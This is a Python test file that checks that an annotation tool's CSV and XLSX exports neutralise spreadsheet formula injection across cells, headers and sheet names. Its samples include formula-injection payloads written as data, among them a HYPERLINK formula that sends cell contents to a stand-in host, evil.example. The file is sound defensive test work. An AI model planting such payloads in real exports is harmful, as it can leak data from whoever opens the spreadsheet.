"""Formula injection: every cell of every CSV and XLSX export, headers and sheet names
included, goes through the one rule (issue 10, item 9).

The triggers are the README's own list, written out here (not taken from the code), so
a change that drops one from the code fails these tests. Files are read back as a
spreadsheet would: CSV with the csv module, XLSX with openpyxl (data type, quote prefix).
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pytest

from annotator.core.codebook import AttributeDef, Codebook, Label
from annotator.formats.registry import EXPORTERS, Options, export_project, load_formats
from annotator.store import Project
from annotator.store.queries.export_queries import inert, inert_sql, register_inert, runs_as_formula

README = Path(__file__).parents[2] / "README.md"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TRIGGER_IDS = ["equals", "plus", "minus", "at", "tab", "cr"]
PLAIN_NUMBERS = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?(; [+-]?[0-9]+(\.[0-9]+)?)*")
CSV_EXPORTS = ("csv", "claims", "network")
XLSX_EXPORTS = ("xlsx", "claims-xlsx")


def dangerous(value: object) -> bool:
    """What a spreadsheet runs: a text starting with a trigger, but for plain numbers."""
    return (
        isinstance(value, str) and value.startswith(TRIGGERS) and not PLAIN_NUMBERS.fullmatch(value)
    )


def test_the_readme_names_these_triggers() -> None:
    text = " ".join(README.read_text("utf-8").split())
    assert "one starting with `=`, `+`, `-`, `@`, a tab or a carriage return" in text


SAMPLES = [
    *(t + 'HYPERLINK("http://evil.example/?"&A1)' for t in TRIGGERS),
    *TRIGGERS,
    *(t + t for t in TRIGGERS),
    "-1",
    "+1",
    "-1; +1",
    "+0.5; -2",
    "-1.",
    "--1",
    "-1;+1",
    "-١",  # Arabic-Indic digit: not a plain ASCII number
    "-2+3",
    "'=already quoted",
    " =SUM(A1)",
    "plain",
    "a=b",
    "",
    "é=",
    "😀=1",
]


def test_python_and_sqlite_apply_the_same_rule(tmp_path: Path) -> None:
    with Project.create(tmp_path / "p.annot") as project:
        register_inert(project)
        for value in SAMPLES:
            (sql,) = project.execute(f"SELECT {inert_sql('?1')}", (value,)).fetchone()
            assert sql == inert(value), repr(value)
            assert (sql != value) == dangerous(value), repr(value)
            assert runs_as_formula(value) == dangerous(value), repr(value)
            if dangerous(value):
                assert sql == "'" + value
        (null,) = project.execute(f"SELECT {inert_sql('NULL')}").fetchone()
        assert null is None


def hostile_project(path: Path, trigger: str, *, nul: bool = False) -> Project:
    """Every text that reaches a table export starts with *trigger*: document title,
    span text (where normalisation keeps it), note, label key and name, attribute key
    and value, actor name, coder."""
    project = Project.create(path, annotator=f"{trigger}coder")
    key_ok = trigger not in "\t\r"  # keys cannot start with white space
    label = f"{trigger}lab" if key_ok else "lab"
    attribute = f"{trigger}key" if key_ok else "key"
    project.merge_codebook(
        Codebook(
            "hostile",
            (Label(label, f"{trigger}name", "#123456"),),
            (AttributeDef(attribute, f"{trigger}Key", "text"),),
        )
    )
    head = trigger if trigger != "\r" else "@"  # CR becomes a line break in texts
    text = f"{head}SUM(A1) said the Senate.\n"
    doc = project.add_document(text, f"{trigger}HYPERLINK(title)")
    claim = project.annotate(doc, 0, 8, "claim", note=f"{trigger}1+1" + ("\x00" if nul else ""))
    actor = project.annotate(doc, 18, 24, "actor")
    project.annotate(doc, 0, 3, label)
    project.relate(actor.id, claim.id, "claimant")
    project.link_actor(actor.id, f"{trigger}Actor")
    project.set_attribute(claim.id, "issue", f"{trigger}issue")
    project.set_attribute(claim.id, attribute, f"{trigger}value")
    return project


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def exported_csv(project: Project, fmt: str, folder: Path, raw: bool) -> list[list[str]]:
    target = folder / f"{fmt}{'-raw' if raw else ''}.csv"
    export_project(
        project,
        fmt,
        target.with_suffix(".graphml") if fmt == "network" else target,
        Options(raw=raw),
    )
    if fmt != "network":
        return csv_cells(target)
    stem = target.with_suffix("")
    return csv_cells(Path(f"{stem}-edges.csv")) + csv_cells(Path(f"{stem}-actor-edges.csv"))


def expected_texts(project: Project, fmt: str) -> set[str]:
    """The hostile texts as the store holds them (it strips some), per export."""
    annotations = project.annotations()
    attributes = project.all_attributes()
    values = {v for a in attributes.values() for v in a.values()}
    keys = {a.key for a in project.codebook().attributes}
    actors = {project.actor_of(a.id).name for a in annotations if project.actor_of(a.id)}
    title = project.documents()[0].title
    claim_text = {a.text for a in annotations if a.label == "claim"}
    texts = {
        "csv": {title, *(a.text for a in annotations), *(a.note or "" for a in annotations)}
        | {label.name for label in project.labels()}
        | {a.annotator for a in annotations},
        "claims": {title, *claim_text, *actors, *values, *keys},
        "network": {*actors, *(a.get("issue", "") for a in attributes.values())},
    }
    texts["xlsx"] = texts["csv"] | values | keys | {label.key for label in project.labels()}
    texts["claims-xlsx"] = texts["claims"]
    return {v.replace("\x00", "") for v in texts[fmt] if dangerous(v)}


def test_every_table_export_is_checked_here() -> None:
    load_formats()
    tables = {name for name, e in EXPORTERS.items() if e.extension in (".csv", ".xlsx")}
    assert tables | {"network"} == set(CSV_EXPORTS) | set(XLSX_EXPORTS)


@pytest.mark.parametrize(
    ("fmt", "nul"),
    [("csv", False), ("csv", True), ("claims", False), ("network", False)],
    ids=["csv-printf", "csv-exact-path", "claims", "network"],
)
@pytest.mark.parametrize("trigger", TRIGGERS, ids=TRIGGER_IDS)
def test_no_csv_cell_runs_as_a_formula(tmp_path: Path, trigger: str, fmt: str, nul: bool) -> None:
    with hostile_project(tmp_path / "p.annot", trigger, nul=nul) as project:
        rows = exported_csv(project, fmt, tmp_path, raw=False)
        raw_rows = exported_csv(project, fmt, tmp_path, raw=True)
        expected = expected_texts(project, fmt)
    cells = [c.replace("\x00", "") for row in rows for c in row]
    raw_cells = {c.replace("\x00", "") for row in raw_rows for c in row}
    assert cells and not [c for c in cells if dangerous(c)]
    assert expected or (fmt == "network" and trigger in "\t\r")  # names are stripped
    assert {"'" + v for v in expected} <= set(cells)
    assert expected <= raw_cells
    if fmt == "claims" and trigger not in "\t\r":
        assert f"'{trigger}key" in rows[0] and f"{trigger}key" in raw_rows[0]  # the header


def xlsx_cells(path: Path) -> tuple[list[str], list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(path)
    return book.sheetnames, [c for sheet in book.worksheets for row in sheet for c in row]


@pytest.mark.parametrize("fmt", XLSX_EXPORTS)
@pytest.mark.parametrize("trigger", TRIGGERS, ids=TRIGGER_IDS)
def test_no_xlsx_cell_runs_as_a_formula(tmp_path: Path, trigger: str, fmt: str) -> None:
    with hostile_project(tmp_path / "p.annot", trigger) as project:
        export_project(project, fmt, tmp_path / "out.xlsx")
        export_project(project, fmt, tmp_path / "raw.xlsx", Options(raw=True))
        expected = expected_texts(project, fmt)
    assert expected
    for name, raw in (("out.xlsx", False), ("raw.xlsx", True)):
        sheets, cells = xlsx_cells(tmp_path / name)
        assert not [s for s in sheets if dangerous(s)]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        hostile = [c for c in cells if dangerous(c.value)]
        assert hostile
        assert all(c.data_type == "s" for c in hostile)
        # Excel's quote prefix (a typed apostrophe) keeps the text a text when edited
        assert {c.quotePrefix for c in hostile} == {not raw}, name
        assert not [c.value for c in cells if c.quotePrefix and not dangerous(c.value)]
        assert expected <= {c.value for c in cells}
        if trigger not in "\t\r":
            header = [c.value for c in cells if c.row == 1]
            assert f"{trigger}key" in header


def test_plain_numbers_stay_numbers_in_the_claims_table(tmp_path: Path) -> None:
    with hostile_project(tmp_path / "p.annot", "=") as project:
        claim = next(a for a in project.annotations() if a.label == "claim")
        project.set_attribute(claim.id, "position", "-1")
        rows = exported_csv(project, "claims", tmp_path, raw=False)
    assert rows[1][rows[0].index("position")] == "-1"


@pytest.mark.parametrize("trigger", TRIGGERS, ids=TRIGGER_IDS)
def test_sheet_names_go_through_the_rule(tmp_path: Path, trigger: str) -> None:
    from openpyxl import Workbook

    from annotator.formats.xlsx import new_sheet, save_workbook

    book = Workbook(write_only=True)
    new_sheet(book, f"{trigger}SUM(A1)").append(["x"])
    new_sheet(book, "Annotations").append(["y"])
    save_workbook(book, tmp_path / "s.xlsx")
    names = openpyxl.load_workbook(tmp_path / "s.xlsx").sheetnames
    assert names == ["SUM(A1)", "Annotations"]
    assert not [n for n in names if dangerous(n)]
